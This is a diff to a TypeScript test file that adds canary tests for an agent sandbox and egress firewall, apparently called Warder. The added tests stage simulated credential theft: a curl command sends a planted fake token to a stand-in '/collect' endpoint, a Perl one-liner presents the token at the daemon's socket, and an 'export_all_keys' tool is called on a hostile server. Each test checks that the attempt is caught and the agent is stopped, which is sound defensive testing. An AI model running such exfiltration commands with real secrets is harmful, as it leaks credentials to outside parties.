@@ -17,19 +17,56 @@ import { after, before, test, type TestContext } from 'node:test'
 import type { AlertAnswer } from '../../src/api/alerts.ts'
 import { connect } from '../../src/client/connect.ts'
 import { readSocketSecret } from '../../src/platform/socket-secret.ts'
-import { inSandbox } from '../kit/box.ts'
+import { inSandbox, needs } from '../kit/box.ts'
 import { house, until } from '../kit/house.ts'
-import { keysOf, owner, socketOf } from '../kit/owner.ts'
+import { internet, type Internet } from '../kit/internet.ts'
+import { hostileServer, wrapped } from '../kit/mcp.ts'
+import { configure, keysOf, owner, socketOf } from '../kit/owner.ts'
 
 const home = house({ after })
 const folder = join(home.home, 'private')
-const state = {} as { me: Awaited<ReturnType<typeof owner>> }
+const state = {} as { me: Awaited<ReturnType<typeof owner>>; world: Internet }
+const CURL = '/usr/bin/curl'
+const OPEN = 'open.test'
+// what a hook registers ends with the hook
+const ends: (() => void)[] = []
+after(() => ends.forEach((end) => end()))
 const plant = (kind: 'file' | 'credential' | 'token' | 'dns' | 'tool' | 'secret', name?: string) =>
   state.me.call('canaryPlant', { kind, ...(name === undefined ? {} : { name }) })
 
 before(async () => {
   mkdirSync(folder)
-  state.me = await owner({ after }, home, ['canary.interval=300ms'])
+  state.world = await internet(
+    { after: (end) => void ends.push(end as () => void) },
+    { names: [OPEN], directory: home.home },
+  )
+  configure(
+    home,
+    'policy.yaml',
+    `version: 1
+rules:
+  - id: works
+    agents: ["*"]
+    effect: allow
+    capabilities: ["net:connect:${OPEN}:${state.world.port}", "fs:read:\${WORKSPACE}/**", "fs:write:\${WORKSPACE}/**"]
+    reason: it may
+egress:
+  - id: here
+    hosts: ["*.test"]
+    addresses: [127.0.0.0/8]
+    inspect: true
+mcp:
+  servers:
+    box: { tier: trusted, tools: { "*": allow } }
+    other: { tier: trusted, tools: { "*": allow } }
+`,
+  )
+  const { WARDER_EGRESS_ROOTS: roots, WARDER_EGRESS_RESOLVER: resolver } = state.world.environment
+  state.me = await owner({ after }, home, [
+    'canary.interval=300ms',
+    `egress.roots=${roots}`,
+    `egress.resolver=${resolver}`,
+  ])
 })
 
 async function alerts(): Promise<readonly AlertAnswer[]> {
@@ -153,6 +190,67 @@ test('a fake token at a door of Warder trips it', async (t) => {
   await thief.request({ path: '/v1/runs' }).catch(() => undefined)
   await tripped(t, canary.name, /used at Warder's own door/, Date.now())
 })
+
+/** What the agent was stopped for, once it is. */
+async function stopped(agent: string): Promise<void> {
+  await until(
+    async () => (await state.me.call('daemon', {})).stops.some((stop) => stop.agent === agent),
+    `${agent} is stopped`,
+  )
+}
+
+test('a fake token that an agent shows at its own socket trips it, and names the agent', async (t) => {
+  if (!needs(t, '/usr/bin/perl')) return
+  const { value = '', canary } = await plant('token', 'deploy-bot')
+  const script = String.raw`use IO::Socket::UNIX;
+my $s = IO::Socket::UNIX->new(Peer => $ENV{WARDER_PATHS_SOCKET}) or die;
+print $s "GET /nothing/here HTTP/1.0\r\nhost: warder\r\nauthorization: Bearer $ARGV[0]\r\n\r\n"; $s->flush;
+print <$s>`
+  const argv = ['/usr/bin/perl', '-e', script, value]
+  await inSandbox(home, { agent: 'local-thief', argv })
+  const { message } = await tripped(t, canary.name, /used at Warder's own door by local-thief/, Date.now())
+  assert.ok(!message.includes(value))
+  await stopped('local-thief')
+})
+
+test('a fake token on its way out through the proxy trips it, and does not arrive', async (t) => {
+  if (!needs(t, CURL)) return
+  const { value = '', canary } = await plant('token', 'pipeline')
+  const url = `https://${OPEN}:${state.world.port}/collect`
+  const argv = [CURL, '-sS', '-m', '20', '-H', `Authorization: Bearer ${value}`, url]
+  const { stdout, stderr } = await inSandbox(home, { agent: 'courier', argv })
+  await tripped(t, canary.name, /was used by courier: net alert/, Date.now())
+  assert.ok(!state.world.arrived().includes(value), stdout + stderr)
+  await stopped('courier')
+})
+
+test('a name nobody has a reason to ask for trips it, when it is asked of the proxy', async (t) => {
+  if (!needs(t, CURL)) return
+  const { canary } = await plant('dns')
+  const argv = [CURL, '-sS', '-m', '20', `https://db.${canary.name}/`]
+  await inSandbox(home, { agent: 'explorer', argv })
+  await tripped(t, canary.name, /was used by explorer: net connect/, Date.now())
+  await stopped('explorer')
+  assert.deepEqual(
+    state.world.namesAsked().filter((name) => name.includes(canary.name)),
+    [],
+    'no resolver heard of it',
+  )
+})
+
+for (const [what, tool, server] of [
+  ['a tool that a server really offers', 'fine', 'box'],
+  ['a tool that no server has', 'export_all_keys', 'other'],
+] as const) {
+  test(`${what} trips it, when it is called through the firewall`, async (t) => {
+    await plant('tool', `${server}/${tool}`)
+    const agent = `caller-of-${server}`
+    const it = await wrapped(t, home, server, hostileServer(home), { options: ['--as', agent] })
+    await it.client.callTool({ name: tool, arguments: {} }).catch(() => undefined)
+    await tripped(t, `${server}/${tool}`, new RegExp(`was used by ${agent}`), Date.now())
+    await stopped(agent)
+  })
+}
 
 test('a list that somebody changed is no list', async (t) => {
   const path = join(home.state, 'canaries/canaries.json')
